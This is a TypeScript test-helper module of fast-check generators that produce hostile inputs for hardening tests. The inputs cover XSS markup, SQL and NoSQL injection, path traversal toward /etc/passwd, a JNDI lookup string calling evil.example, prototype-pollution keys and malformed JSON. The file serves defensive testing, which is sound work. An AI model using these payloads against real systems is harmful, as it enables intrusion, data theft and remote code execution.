/**
 * Generic hostile-input generators (fast-check) shared by the hardening tests: strings
 * that try to break rendering, parsing, storage or queries; JSON values of the wrong type;
 * keys that target prototypes or system fields; malformed JSON text; bad identifiers.
 * Nothing here knows about a route or a card: callers fit these to their own contracts.
 */
import fc from "fast-check";

/** Markup and script: must be kept as text, never executed or "cleaned" into something else. */
export const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg/onload=alert(1)>',
  "javascript:alert(document.cookie)",
  "</textarea><script>alert(1)</script>",
  "<a href=\"javascript:alert(1)\">click</a>",
  "<iframe src=//evil.example></iframe>",
  "&lt;b&gt;not bold&lt;/b&gt; &amp; &#x3C;",
  "{{constructor.constructor('alert(1)')()}}",
  "${7*7} #{7*7} <%= 7*7 %>",
  "<!--",
  "]]><![CDATA[",
] as const;

/** Markdown that a renderer might turn into links, images, HTML or tables. */
export const MARKDOWN = [
  "[click me](javascript:alert(1))",
  "![tracker](https://evil.example/pixel.png)",
  "**bold** _italic_ `code` ~~gone~~",
  "# Heading\n\n- item one\n- item two\n\n> quote",
  "```js\nalert(1)\n```",
  "| a | b |\n|---|---|\n| 1 | 2 |",
  "<details><summary>open</summary>hidden</details>",
  "[a]: https://evil.example 'title'\n[a]",
  "\\*not italic\\* \\[not a link\\]",
  "---\ntitle: front matter\n---",
] as const;

/** Bidirectional overrides, zero-width characters, emoji sequences, combining marks, other scripts. */
export const UNICODE_TRICKS = [
  "\u202Egnp.exe\u202C",
  "abc\u200B\u200C\u200D\u2060def",
  "\uFEFFbom at the start",
  "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇬🇧",
  "Z̴̡̪a̸l̷g̶o̵ t̸e̶x̷t̴",
  "שלום عربى 日本語 हिन्दी",
  "𝕳𝖊𝖑𝖑𝖔 𝟙𝟚𝟛",
  "\u0301 leading combining mark",
  "ﷺ ꧅ 𒐫",
  "a\u00A0b\u2003c\u3000d",
  "\uD800 lone high surrogate",
  "lone low surrogate \uDFFF",
  "\uDBFF\uDFFF last code point",
] as const;

/** Control characters, line and paragraph separators, terminal escapes. */
export const CONTROL = [
  "nul\u0000byte",
  "bell\u0007",
  "\u001B[31mred\u001B[0m",
  "line\r\nbreak",
  "tab\tand\u000Bvertical\u000Cfeed",
  "del\u007F and \u0085 next line",
  "separators\u2028\u2029",
  "\u0000\u0001\u0002\u0003",
] as const;

/** Query and path injection, template and lookup tricks, and words that are special to JavaScript. */
export const INJECTION = [
  "' OR '1'='1",
  "\"; DROP TABLE c; --",
  "SELECT * FROM c WHERE c.tenantId != ''",
  "1 OR 1=1) --",
  '{"$gt": ""}',
  '{"$where": "sleep(1000)"}',
  "$where",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%00%2e%2e%2f",
  "${jndi:ldap://evil.example/a}",
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "true",
  "0",
  "-1",
  "1e400",
] as const;

/** Any hostile example from the lists above. */
export const hostileConstant: fc.Arbitrary<string> = fc.constantFrom(...MARKUP, ...MARKDOWN, ...UNICODE_TRICKS, ...CONTROL, ...INJECTION);

/**
 * Hostile text: a listed example, random code points (any plane, control characters
 * included), or several of those joined, sometimes with surrounding whitespace.
 */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: hostileConstant },
  { weight: 2, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 20 }) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.array(fc.oneof(hostileConstant, fc.string({ unit: "binary", maxLength: 12 })), { minLength: 2, maxLength: 5 }), fc.constantFrom("", " ", "\n", "\t"))
      .map(([parts, pad]) => pad + parts.join(" ") + pad),
  },
);

/**
 * Hostile text that fits a string field: at most `max` UTF-16 units (the unit zod's
 * `.max` counts), and, when `required`, something left after trimming.
 */
export function hostileTextFor(max: number, required = false): fc.Arbitrary<string> {
  // Often short; sometimes repeated up to exactly `max`, where truncation and off-by-one bugs live.
  const fill = hostileText.map((s) => s.repeat(Math.ceil(max / s.length)).slice(0, max));
  return fc.oneof({ weight: 3, arbitrary: hostileText }, { weight: 1, arbitrary: fill }).map((s) => {
    let text = s.length > max ? s.slice(0, max) : s;
    if (required && text.trim() === "") text = `x${text}`.slice(0, max);
    return text;
  });
}

/** Text longer than `max` once trimmed (for "must be at most N characters"). */
export function tooLongText(max: number): fc.Arbitrary<string> {
  return fc.tuple(hostileConstant, fc.integer({ min: 1, max: 64 })).map(([s, extra]) => {
    const unit = s.trim() === "" ? "x" : s.trim();
    return unit.repeat(Math.ceil((max + extra) / unit.length) + 1).slice(0, max + extra);
  });
}

/** Keys that target prototypes, Cosmos system fields, NoSQL operators or server-owned fields. */
export const HOSTILE_KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "$where",
  "$gt",
  "_id",
  "_rid",
  "_etag",
  "_ts",
  "_self",
  "id",
  "type",
  "tenantId",
  "communityId",
  "userId",
  "authorId",
  "createdBy",
  "createdAt",
  "role",
  "isAdmin",
  "schemaVersion",
  "ttl",
  "deleted",
  "version",
  "openCount",
  "",
  " ",
  "a.b",
  "a[b]",
  "x\u0000y",
] as const;

/** A JSON value of any type: scalars of every kind (huge and tiny numbers too), arrays and objects. */
export const anyJsonValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.integer(),
    fc.constantFrom(0, -0, -1, 1.5, 2 ** 53, -(2 ** 53), 1e308, -1e308, 5e-324, Number.MAX_SAFE_INTEGER + 2),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    hostileText,
    fc.constantFrom("", " ", "true", "false", "1", "[]", "{}"),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...HOSTILE_KEYS), fc.string({ maxLength: 6 })), tie("value"), { maxKeys: 4 }),
  ),
})).value;

/** Nesting `depth` arrays or objects deep, as JSON text (JSON.stringify would recurse; this does not). */
export function deeplyNestedJson(depth: number, kind: "array" | "object"): string {
  return kind === "array" ? "[".repeat(depth) + "]".repeat(depth) : '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
}

/** Text sent as JSON that is not JSON (or is JSON a strict parser refuses at the top level). */
export const malformedJsonText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "{",
    "}",
    "{'single': 'quotes'}",
    '{"a": 1,}',
    '{"a": 1} trailing',
    '{"a": undefined}',
    '{"a": NaN}',
    '{"a": Infinity}',
    "{a: 1}",
    "[1, 2",
    '"just a string"',
    "42",
    "true",
    "null",
    "\u0000",
    "<xml>not json</xml>",
    "a=1&b=2",
    '{"a":"\\x41"}',
    '{"a":"\\u12"}',
    "/* comment */ {}",
    '{"__proto__": }',
  ),
  hostileText.filter((s) => !isJsonObjectOrArray(s)),
  fc.integer({ min: 1, max: 2000 }).map((n) => "[".repeat(n)),
  fc.integer({ min: 1, max: 2000 }).map((n) => '{"a":'.repeat(n)),
);

/** True when a strict JSON body parser (objects and arrays only; a leading byte order mark is dropped) accepts this text. */
export function isJsonObjectOrArray(raw: string): boolean {
  const text = raw.startsWith("\uFEFF") ? raw.slice(1) : raw;
  const first = text.trimStart()[0];
  if (first !== "{" && first !== "[") return false;
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

/**
 * Path segments (already percent-encoded) that are not acceptable identifiers: too long,
 * traversal, NUL, reserved characters, spaces, unicode, injection text, broken encoding.
 * `encoded` is what goes into the URL; `decoded` what a server sees after decoding, or
 * null when the encoding itself is broken.
 */
export interface PathSegment {
  encoded: string;
  decoded: string | null;
}

/**
 * Percent-encodes any string, lone surrogates included (as the three bytes WTF-8 gives
 * them, which no UTF-8 decoder accepts); encodeURIComponent throws on those.
 */
export function encodeAny(text: string): string {
  let out = "";
  for (const ch of text) {
    const cp = ch.codePointAt(0)!;
    if (cp >= 0xd800 && cp <= 0xdfff) {
      for (const byte of [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 0x3f), 0x80 | (cp & 0x3f)]) out += `%${byte.toString(16).toUpperCase()}`;
    } else out += encodeURIComponent(ch);
  }
  return out;
}

const segment = (decoded: string): PathSegment => rawSegment(encodeAny(decoded));
const rawSegment = (encoded: string): PathSegment => {
  try {
    return { encoded, decoded: decodeURIComponent(encoded) };
  } catch {
    return { encoded, decoded: null };
  }
};

export const hostileSegment: fc.Arbitrary<PathSegment> = fc.oneof(
  fc.integer({ min: 201, max: 4000 }).map((n) => segment("a".repeat(n))),
  fc.constantFrom(
    "../../etc/passwd",
    "..\\..\\win.ini",
    "a/b",
    "a?b=c",
    "a#b",
    "a b",
    " ",
    "\t",
    "\u0000",
    "a\u0000b",
    "<script>",
    "' OR '1'='1",
    '{"$ne":null}',
    "$where",
    "*",
    "%",
    "é",
    "👍",
    "\u202Eabc",
    "a\u200Bb",
  ).map(segment),
  fc.constantFrom("%00", "%", "%zz", "%E0%A4%A", "%C0%AF", "%2e%2e%2f%2e%2e%2f", "..%2f..%2f", "%252e", "%u0041", "a%0Ab", "%FF%FE").map(rawSegment),
  hostileText.map(segment),
);
